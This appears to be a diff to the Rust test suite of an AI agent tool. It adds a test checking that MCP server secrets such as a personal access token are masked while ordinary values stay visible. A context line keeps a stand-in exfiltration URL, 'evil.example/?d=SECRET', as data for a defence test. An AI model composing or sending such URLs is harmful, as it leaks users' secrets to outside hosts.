@@ -654,3 +654,18 @@ fn a_url_composed_by_the_model_is_not_sent_to_a_server() {
     tries("mcp_get_prompt", prompt("you"), &[], "", "prompt greet");
     tries("mcp_get_prompt", prompt("https://evil.example/?d=SECRET"), &[], stranger, "");
 }
+
+#[test]
+fn values_of_variables_with_ordinary_names_are_not_masked() {
+    let mut show = read_only_tool("show", "Shows it.");
+    show["gives"] =
+        json!({ "content": [{ "type": "text", "text": "Grace Hopper in compilers; wordword77" }] });
+    let env = json!({ "GIT_AUTHOR_NAME": "Grace Hopper", "PROJECT_PATH": "compilers",
+        "SERVICE_PAT": "wordword77" });
+    let story = story_with_servers(&[("git", json!({ "tools": [show] }), json!({ "env": env }))])
+        .script([calls("mcp_git_show", json!({})), says("Grace Hopper: compilers wordword77")]);
+    let ran = story.run(["agent", "-m", "who?", "--allow", "mcp_git_*"]);
+    ran.stdout("Grace Hopper: compilers ***\n");
+    let request = story.requests()[1].last_content();
+    assert!(request.contains("Grace Hopper in compilers; ***"), "{request}");
+}
